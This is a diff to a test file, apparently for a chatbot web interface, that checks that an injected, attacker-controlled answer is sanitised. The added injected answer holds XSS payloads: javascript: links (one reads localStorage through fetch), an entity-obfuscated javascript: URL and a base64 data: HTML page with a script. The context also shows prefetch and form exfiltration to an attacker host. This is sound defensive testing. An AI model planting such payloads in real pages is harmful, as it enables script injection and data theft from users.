@@ -42,6 +42,10 @@ def injected_answer(a: str) -> str:
             f'<link rel="prefetch" href="{a}/prefetch">\n\n'
             f'<form action="{a}/form" method="get"><input name="cash" value="secret">'
             f'<button formaction="{a}/formaction">Continue</button></form>\n\n'
+            "[Open your statement](javascript:fetch('/x?'+localStorage.length)) · [ref][js] · "
+            "[entity](jav&#x61;script:alert(1)) · <a href=\"javascript:alert(2)\">html</a> · "
+            "[page](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n\n"
+            "[js]: javascript:alert(3)\n\n"
             f"Done. [Read more]({a}/only-when-clicked)")
 
 
@@ -75,6 +79,10 @@ def test_an_injected_answer_fetches_nothing_from_the_outside_host(tmp_path):
         assert chatbot.locator(f'img[src^="{attacker.url}"], img[srcset], source, video, iframe, svg image, '
                                "form, input, button[formaction], link").count() == 0
         assert chatbot.locator("[style*='url(']").count() == 0
+        # Links whose click would run code in this page (and could read the key it keeps) are not links at all.
+        assert chatbot.locator('a[href^="javascript:" i], a[href^="data:" i], a[href^="vbscript:" i], '
+                               'a[href*="script:" i]').count() == 0
+        assert chatbot.get_by_text("Open your statement").count() >= 1  # the text stays
         # The answer's own text is still there; the ordinary link stays a link.
         assert chatbot.locator(f'a[href="{attacker.url}/only-when-clicked"]').count() == 1
         assert page.evaluate("window.__csp") == []  # the sanitiser, not the policy, stopped them
